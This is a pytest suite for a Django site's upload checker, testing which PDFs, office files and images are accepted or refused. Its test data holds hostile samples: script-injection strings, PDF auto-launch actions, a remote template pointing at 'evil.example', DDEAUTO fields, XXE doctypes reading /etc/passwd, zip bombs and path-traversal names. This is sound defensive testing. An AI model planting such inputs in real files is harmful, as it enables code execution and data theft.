"""What an uploaded file really is: what is taken, and everything that only looks like it."""

from __future__ import annotations

import contextlib
import io
import random
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from goldenthread.hub.maturity import attachments
from goldenthread.hub.maturity.file_types import Refused, file_type, named_type
from goldenthread.hub.maturity.packed import MOST_PARTS
from goldenthread.hub.plans.grids.faults import GridFault
from goldenthread.hub.plans.grids.zipped import opened
from tests.made.files import JPEG, PDF, PNG, an_office_file
from tests.made.spreadsheets import an_ods, with_member

GOOD = {
    "opens-at-a-page.pdf": PDF.replace(b"/Catalog", b"/Catalog/OpenAction[1 0 R/Fit]"),
    "report.pdf": PDF,
    "minutes.docx": an_office_file("word/document.xml"),
    "figures.xlsx": an_office_file("xl/workbook.xml"),
    "slides.pptx": an_office_file("ppt/presentation.xml"),
    "figures.ods": an_ods({"Plans": [["Camden", 2025]]}),
    "minutes.odt": an_office_file("content.xml", "META-INF/manifest.xml"),
    "photo.png": PNG,
    "photo.jpg": JPEG,
    "PHOTO.JPEG": JPEG,
    "photo.jfif": JPEG,
    "galaxy.jpg": JPEG + b"\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1600000000000SEFHk\0\0\0\x01\0\0\0SEFT",
    "moving.jpg": JPEG + b"\0\0\0\x18ftypmp42" + b"\0" * 50 + b"mdat",
    "newline.jpg": JPEG + b"\n",
    "photo.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
}


@pytest.mark.parametrize("name", GOOD)
def test_documents_and_pictures_are_taken(name: str) -> None:
    assert name.lower().endswith(file_type(name, GOOD[name]).endings)
    assert named_type(name) == file_type(name, GOOD[name])


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("plan.docm", an_office_file("word/document.xml"), "macros"),
        ("sheet.xlsm", an_office_file("xl/workbook.xml"), "macros"),
        ("sheet.xlsx", an_office_file("xl/workbook.xml", "xl/vbaProject.bin"), "macros"),
        ("sheet.xlsx", an_office_file("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), "macros"),
        ("plan.docx", an_office_file("word/document.xml", "word/activeX/activeX1.bin"), "macros"),
        ("plan.docx", an_office_file("word/document.xml", kinds="macroEnabled.main+xml"), "macros"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Save the file as .docx"),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Save the file as .xlsx"),
        ("setup.exe", b"MZ\x90\x00", "are not taken"),
        ("page.html", b"<script>alert(1)</script>", "are not taken"),
        ("drawing.svg", b"<svg onload='alert(1)'/>", "are not taken"),
        ("archive.zip", an_office_file("word/document.xml"), "are not taken"),
        ("noending", PDF, "are not taken"),
        ("report.pdf", b"MZ\x90\x00" + b"\x00" * 100, "no PDF file inside"),
        ("report.pdf", b"%PDF-1.7 cut off", "no PDF file inside"),
        ("report.pdf", b"<html>%PDF-1.7 %%EOF", "no PDF file inside"),
        ("minutes.docx", an_office_file("xl/workbook.xml"), "no Word file inside"),
        ("minutes.docx", PDF, "no Word file inside"),
        ("minutes.docx", b"PK\x03\x04 not really", "no Word file inside"),
        ("photo.png", JPEG, "no PNG file inside"),
        ("photo.png", PNG[:30], "no PNG file inside"),
        ("photo.png", PNG[:8] + b"<html><script>alert(1)</script>" + PNG[-8:], "no PNG file inside"),
        ("report.pdf", PDF[:9] + b"<html><script>alert(1)</script>" + PDF[9:], "no PDF file inside"),
        ("report.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(x)>>"), "runs when it is read"),
        ("report.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(1)>>"), "runs when it is read"),
        ("photo.jpg", JPEG[:10], "no JPEG file inside"),
        ("photo.jpg", JPEG[:4] + b"<html><script>alert(1)</script>" + JPEG[4:], "no JPEG file inside"),
        ("film.heic", b"\0\0\0\x18ftypmp42", "no HEIC file inside"),
        ("minutes.odt", an_office_file("content.xml"), "no OpenDocument text file inside"),
        ("figures.ods", with_member(GOOD["figures.ods"], "Basic/Standard/Module1.xml", b"<x/>"), "macros"),
        ("figures.ods", with_member(GOOD["figures.ods"], "1/content.xml", b"<office:dde-source/>"), "from elsewhere"),
        ("empty.pdf", b"", "empty"),
        ("report.pdf.exe", PDF, "are not taken"),
    ],
)
def test_what_is_not_what_it_says_is_refused_with_what_to_do(name: str, content: bytes, words: str) -> None:
    with pytest.raises(Refused, match=words):
        file_type(name, content)


def packed_with(**parts: bytes) -> bytes:
    """A document with these parts beside the two that it must have, each by its name with __ for /."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        whole = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>", "xl/workbook.xml": b"<x/>"}
        for name, content in {**whole, **{key.replace("__", "/"): value for key, value in parts.items()}}.items():
            packed.writestr(name, content)
    return made.getvalue()


@pytest.mark.parametrize(
    "bomb",
    [
        {"word__media__zeros.bin": b"\x00" * (301 * 1024 * 1024)},
        {"word__media__zeros.bin": b"\x00" * (40 * 1024 * 1024)},
        {"[Content_Types].xml": b"<Types>" + b" " * (290 * 1024 * 1024)},
    ],
    ids=["more than may be", "a thousand times itself", "a list of spaces"],
)
def test_a_file_that_unpacks_to_far_more_than_it_is_is_refused_at_once(bomb: dict[str, bytes]) -> None:
    content = packed_with(**bomb)
    assert len(content) < 1024 * 1024
    began = time.process_time()
    with pytest.raises(Refused, match="unpacks to far more"):
        file_type("bomb.docx", content)
    with pytest.raises(GridFault, match="unpacks to far more"):
        opened(content)
    assert time.process_time() - began < 0.2


def test_a_list_that_is_too_long_is_not_read_whole() -> None:
    long = b"<Types>" + random.Random(1).randbytes(3 * 1024 * 1024).hex().encode()
    with pytest.raises(Refused, match="unpacks to far more"):
        file_type("long.docx", packed_with(**{"[Content_Types].xml": long}))


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def leading(kind: str, target: str, mode: str = "") -> bytes:
    """A list of what a part leads to, with one thing in it."""
    return f'<Relationships><Relationship Id="1" Type="{kind}" Target="{target}" {mode}/></Relationships>'.encode()


EXTERNAL = 'TargetMode="External"'
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
FAR_ENCODING = b"<?xml version='1.0'" + b" " * 300 + b"encoding='utf-7'?><x/>"
NOISE = random.Random(1).randbytes(20_000).hex().encode()  # so that it packs no better than a document
TEMPLATE = leading(f"{RELATIONS}/attachedTemplate", "https://evil.example/x.dotm", EXTERNAL)


@pytest.mark.parametrize(
    ("part", "content", "words"),
    [
        ("word/_rels/settings.xml.rels", TEMPLATE, "fetches its template"),
        ("word/_rels/SETTINGS.XML.RELS", TEMPLATE.replace(b"attached", b"attach&#101;d"), "fetches its template"),
        ("word/_rels/document.xml.rels", leading(f"{RELATIONS}/oleObject", "embeddings/o.bin"), "another programme"),
        (
            "word/_rels/document.xml.rels",
            leading(f"{RELATIONS}/oleObject", "file://x/o", EXTERNAL),
            "another programme",
        ),
        ("word/_rels/document.xml.rels", leading("http://x/vbaProject", "a.bin"), "macros"),
        ("word/_rels/settings.xml.rels", TEMPLATE.decode().encode("utf-16"), "no office programme"),
        ("word/_rels/settings.xml.rels", b'<?xml version="1.0" encoding="utf-7"?>' + TEMPLATE, "no office programme"),
        ("word/_rels/settings.xml.rels", b'<!DOCTYPE x [<!ENTITY a "vba">]>' + TEMPLATE, "no office programme"),
        ("word/document.xml", b'<!DOCTYPE x [<!ENTITY a "lol">]><w:document/>', "no office programme"),
        (
            "xl/sharedStrings.xml",
            b'<?xml version="1.0"?><!-- --> <!doctype x SYSTEM "file:///etc/passwd"><sst/>',
            "no office",
        ),
        ("word/document.xml", "<!DOCTYPE x><w:document/>".encode("utf-16"), "no office programme"),
        ("word/document.xml", b" " * 17000 + b"<!DOCTYPE x><w:document/>", "no office programme"),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>", "from elsewhere"),
        ("word/_rels/document.xml.rels", leading(f"{RELATIONS}/image", "https://x/y.png", EXTERNAL), "a picture"),
        ("word/_rels/document.xml.rels", leading(f"{RELATIONS}/aFChunk", "https://x/y", EXTERNAL), "from elsewhere"),
        (
            "word/_rels/document.xml.rels",
            leading(f"{RELATIONS}/image", "x", 'TargetMode="Extern&#97;l"'),
            "from elsewhere",
        ),
        ("[Content_Types].xml", "<Types>macroEnabled</Types>".encode("utf-16"), "no office programme"),
        (
            "[Content_Types].xml",
            b'<Types><Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
            "macros",
        ),
        ("xl/_rels/workbook.xml.rels", leading(f"{MICROSOFT}/xlMacrosheet", "s.xml"), "macros"),
        ("word/_rels/document.xml.rels", leading(f"{RELATIONS}/package", "embeddings/x.exe"), "another programme"),
        ("word/_rels/settings.xml.rels", TEMPLATE.replace(b"https:", b"file:"), "fetches its template"),
        ("word/_rels/settings.xml.rels", TEMPLATE.replace(b"https://", b"file:///%5C%5C"), "fetches its template"),
        ("word/_rels/settings.xml.rels", TEMPLATE.replace(b"https://", b"\\\\"), "fetches its template"),
        ("word/_rels/settings.xml.rels", b"<Relationships>", "damaged"),
        ("word/document.xml", b'<!-- <a --><!DOCTYPE x [<!ENTITY a "b">]><x/>', "no office programme"),
        ("word/document.xml", b"<?x <a ?><!DOCTYPE x><x/>", "no office programme"),
        ("word/document.xml", FAR_ENCODING, "no office programme"),
        ("word/document.xml", b"\x4c\x6f\xa7\x94\x93", "no office programme"),
        ("word/document.xml", b"<x>" + b" " * (2**20 - 6) + b"<!DOCTYPE x>" + NOISE + b"</x>", "no office programme"),
        ("xl/connections.xml", b'<connections><connection refreshOnLoad="1"/></connections>', "from elsewhere"),
        ("word/document.xml", b"<w:p><w:instrText> DDEAUTO c:\\x.exe </w:instrText></w:p>", "from elsewhere"),
        (
            "word/header1.xml",
            b'<w:p><w:instrText xml:space="preserve"> DDE excel x </w:instrText></w:p>',
            "from elsewhere",
        ),
        ("word/footer1.xml", b'<w:fldSimple w:instr=" INCLUDEPICTURE  &quot;http://x/y.png&quot;"/>', "from elsewhere"),
    ],
)
def test_what_runs_or_fetches_is_refused_however_it_is_written(part: str, content: bytes, words: str) -> None:
    with pytest.raises(Refused, match=words):
        file_type("plan.docx", packed_with(**{part: content}))


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        (f"{RELATIONS}/hyperlink", "https://www.gov.uk/?a=1&amp;b=2"),
        (f"{RELATIONS}/externalLinkPath", "https://www.gov.uk/figures.xlsx"),
        (f"{MICROSOFT}/xlExternalLinkPath/xlPathMissing", "Book2.xlsx"),
        ("http://schemas.microsoft.com/office/2019/04/relationships/externalLinkLongPath", "Book2.xlsx"),
        (f"{RELATIONS}/video", "https://www.youtube.com/embed/x"),
        (f"{RELATIONS}/attachedTemplate", "file:///C:\\Templates\\Council.dotx"),
        (f"{RELATIONS}/attachedTemplate", "C:\\Templates\\Council.dotx"),
        (f"{RELATIONS}/attachedTemplate", "Council.dotx"),
    ],
)
def test_a_link_that_is_not_followed_by_itself_is_no_harm(kind: str, target: str) -> None:
    link = {"word/_rels/document.xml.rels": leading(kind, target, EXTERNAL)}
    assert file_type("plan.docx", packed_with(**link)).name == "Word"


def test_words_of_the_text_are_no_fields() -> None:
    text = b"<w:p><w:t>The DDE team added an includepicture; https://www.gov.uk</w:t></w:p>"
    inside = leading(f"{RELATIONS}/package", "embeddings/Sheet1.xlsx")
    parts = {"word/document.xml": text, "word/charts/_rels/chart1.xml.rels": inside}
    assert file_type("plan.docx", packed_with(**parts)).name == "Word"


HOSTILE = {
    "digits.pdf": b"%PDF-1.4 1 0 ob /Root " + b"1" * 9_000_000 + b" %%EOF",
    "numbers.pdf": b"%PDF-1.4 " + b"1 0 ob " * 1_300_000 + b"%%EOF",
    "streams.pdf": b"%PDF-1.4 " + b"/ObjStm stream\n" * 600_000 + b"%%EOF",
    "pieces.png": PNG[:33] + b"\0\0\0\0tEXt\0\0\0\0" * 750_000,
    "folders.docx": b"PK\x03\x04" + (b"PK\x01\x02" + bytes(42)) * 190_000,
    "declarations.docx": packed_with(**{"[Content_Types].xml": b"<?xml" * 400_000, "a.bin": NOISE * 3}),
    "elements.docx": packed_with(
        **{"[Content_Types].xml": b"<T>" + b"<a/>" * 250_000 + b"</T>", "a.bin": NOISE * 3}
    ),
    "fields.docx": packed_with(
        **{"word/document.xml": b'<x instr=" ddeaut"/>includepicture &quot;htt' * 200_000, "a.bin": NOISE * 3}
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_made_to_keep_the_site_busy_is_answered_at_once_in_little_memory(name: str) -> None:
    began = time.process_time()
    with contextlib.suppress(Refused):
        file_type(name, HOSTILE[name])
    assert time.process_time() - began < 2
    tracemalloc.start()  # apart, as it makes everything slower
    with contextlib.suppress(Refused):
        file_type(name, HOSTILE[name])
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 20_000_000


def test_a_file_of_too_many_parts_is_refused() -> None:
    many = an_office_file("word/document.xml", *(f"word/part{n}.xml" for n in range(MOST_PARTS)))
    with pytest.raises(Refused, match="unpacks to far more"):
        file_type("many.docx", many)


@given(st.sampled_from([".pdf", ".docx", ".xlsx", ".pptx", ".png", ".jpg"]), st.binary(max_size=300))
def test_no_bytes_at_all_make_it_fail_otherwise_than_by_refusing(ending: str, content: bytes) -> None:
    with contextlib.suppress(Refused):
        file_type(f"file{ending}", content)


@given(st.sampled_from(sorted(GOOD)), st.integers(0, 400), st.binary(min_size=1, max_size=4))
def test_spoilt_good_files_are_taken_or_refused_and_nothing_else(name: str, place: int, spoil: bytes) -> None:
    content = GOOD[name]
    place %= len(content)
    with contextlib.suppress(Refused):
        file_type(name, content[:place] + spoil + content[place + len(spoil) :])


@pytest.mark.parametrize(
    ("name", "plain"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\files\\report.pdf", "report.pdf"),
        ('re"port\r\n.pdf', "report.pdf"),
        ("", "file"),
        ("x" * 300 + ".pdf", "x" * 120 + ".pdf"),
    ],
)
def test_names_are_kept_without_folders_and_without_what_a_header_takes_amiss(name: str, plain: str) -> None:
    assert attachments.plain_name(name) == plain


def test_a_good_file_is_kept_under_its_digest_and_readable_by_the_site_alone() -> None:
    kept = attachments.keep(SimpleUploadedFile("report.pdf", PDF))
    path = attachments.path_of(kept.digest)
    assert path.read_bytes() == PDF
    assert path.stat().st_mode & 0o077 == 0
    assert (kept.name, kept.size) == ("report.pdf", len(PDF))
